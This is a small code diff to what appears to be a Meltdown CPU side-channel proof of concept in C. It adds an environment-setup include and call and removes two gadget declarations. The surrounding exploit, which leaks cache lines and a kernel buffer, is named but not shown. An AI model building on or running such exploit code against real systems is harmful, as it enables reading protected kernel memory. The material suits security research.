@@ -10,6 +10,7 @@
 #include "kernel_module/meltdown_module.h"
 
 #include "common.h"
+#include "env.h"
 
 #define PAGE_SIZE 4096
 
@@ -97,9 +98,6 @@ static void meltdown_leak_cacheline(uint64_t address, uint8_t* out) {
 #ifdef SHADOWLOAD
 
 
-void load_gadget_start();
-void load_gadget_end();
-
 // mirrors the address that is accessed by gadget
 static uint8_t* mirror_buffer;
 static void (*maccess_wrapper)(void*);
@@ -227,6 +225,7 @@ static void leak_buffer(int module_fd, uint64_t kernel_buffer_address) {
 
 
 int main(int argc, char** argv) {
+    env_setup();
     
     // meltdown setup
     meltdown_region = mmap(NULL, 4096 * 16, PROT_READ|PROT_WRITE, MAP_ANON|MAP_PRIVATE|MAP_HUGETLB, 0, 0);